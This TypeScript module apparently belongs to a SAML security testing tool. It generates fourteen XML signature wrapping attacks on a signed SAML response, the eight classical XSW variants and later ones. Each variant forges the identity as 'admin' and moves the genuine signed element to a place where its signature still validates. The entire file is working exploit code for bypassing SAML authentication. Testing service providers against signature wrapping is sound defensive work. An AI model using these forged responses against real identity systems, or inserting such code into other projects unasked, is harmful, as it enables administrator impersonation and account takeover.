import type { Form } from "./responding-provider";

// XML signature wrapping: the signed element is moved to where its signature is still valid, and a forged one stands
// where a reader finds it. The eight classical attacks, and later ones.

const EVIL_ID = "_evil";
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const OBJECT = '<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">';

/** `bare`: the signed element without its signature; `evil`: the forged one that is to be read instead. */
type Parts = { document: string; original: string; bare: string; signature: string; evil: string; form: Form };

/** @param form which signature is wrapped: of a document that is signed twice, the outer one */
function partsOf(document: string, form: Form): Parts {
	const original = form === "assertion" ? only(ASSERTION, document) : document;
	const signature = only(SIGNATURE, original);
	const bare = original.replace(signature, "");
	const evil = bare
		.replace(/ ID="[^"]*"/, ` ID="${EVIL_ID}"`)
		.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1admin")
		.replace(SIGNATURE, "");
	return { document, original, bare, signature, evil, form };
}

function only(pattern: RegExp, text: string): string {
	const found = pattern.exec(text)?.[0];
	if (found === undefined) throw new Error("The response has another form than expected here.");
	return found;
}

/** Adds XML after the issuer of the outer element. */
const behindIssuer = (element: string, added: string) =>
	element.replace("</saml:Issuer>", () => `</saml:Issuer>${added}`);
const atEnd = (element: string, added: string) =>
	element.replace(/<\/saml?p?:(?:Response|Assertion)>$/, (end) => added + end);
const inSignature = (signature: string, added: string) =>
	signature.replace("</ds:Signature>", () => `${added}</ds:Signature>`);
const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`;
/** The whole response, with another element in the place of the signed one. */
const instead = ({ document, original }: Parts, element: string) => document.replace(original, () => element);

const WRAPPINGS: Readonly<Record<string, (parts: Parts) => string>> = {
	"XSW 1: the original in the signature of the forged one": (parts) =>
		instead(parts, behindIssuer(parts.evil, inSignature(parts.signature, parts.bare))),
	"XSW 2: the original beside its signature in the forged one": (parts) =>
		instead(parts, behindIssuer(parts.evil, parts.bare + parts.signature)),
	"XSW 3: the forged one before the original": (parts) =>
		parts.form === "assertion" ? instead(parts, parts.evil + parts.original) : behindIssuer(parts.evil, parts.original),
	"XSW 4: the original in the forged one": (parts) => instead(parts, atEnd(parts.evil, parts.original)),
	"XSW 5: the forged one with the signature, the original at the end": (parts) => {
		const forged = behindIssuer(parts.evil, parts.signature);
		return parts.form === "assertion" ? atEnd(instead(parts, forged), parts.bare) : atEnd(forged, parts.bare);
	},
	"XSW 6: the original in the copied signature at the end": (parts) =>
		instead(parts, atEnd(parts.evil, inSignature(parts.signature, parts.bare))),
	"XSW 7: the forged one in extensions": (parts) =>
		parts.form === "assertion"
			? behindIssuer(parts.document, extensions(parts.evil))
			: behindIssuer(parts.evil, extensions(parts.original)),
	"XSW 8: the original in an object of the signature": (parts) =>
		instead(parts, behindIssuer(parts.evil, inSignature(parts.signature, `${OBJECT}${parts.bare}</ds:Object>`))),
	"the forged one with the identifier of the original": (parts) =>
		instead(parts, behindIssuer(parts.evil, parts.original)).replace(
			EVIL_ID,
			/ ID="([^"]*)"/.exec(parts.original)?.[1] ?? "",
		),
	"the original in a value of an attribute": (parts) =>
		instead(
			parts,
			parts.evil.replace(/(<saml:AttributeValue[^>]*>)[^<]*/, (_, start) => start + parts.original),
		),
	"the original in the subject's confirmation": (parts) =>
		instead(
			parts,
			parts.evil.replace(
				/(<saml:SubjectConfirmationData[^>]*)\/>/,
				(_, start) => `${start}>${parts.original}</saml:SubjectConfirmationData>`,
			),
		),
	"the original as advice": (parts) =>
		instead(
			parts,
			parts.evil.replace(
				"<saml:AuthnStatement",
				() => `<saml:Advice>${parts.original}</saml:Advice><saml:AuthnStatement`,
			),
		),
	"the original in the status": (parts) =>
		(parts.form === "assertion" ? instead(parts, parts.evil) : parts.evil).replace(
			"</samlp:Status>",
			() => `<samlp:StatusDetail>${parts.original}</samlp:StatusDetail></samlp:Status>`,
		),
	"the signature for an element of another namespace": (parts) =>
		instead(
			parts,
			behindIssuer(
				parts.evil,
				parts.original
					.replaceAll("saml:Assertion", "samlp:Assertion")
					.replace("<samlp:Response", "<saml:Response")
					.replace("</samlp:Response>", "</saml:Response>"),
			),
		),
};

/** All ways to wrap the signed element of a valid response. */
export function wrappedResponses(document: string, form: Form): [name: string, document: string][] {
	const parts = partsOf(document, form);
	return Object.entries(WRAPPINGS).map(([name, wrap]) => [name, wrap(parts)]);
}
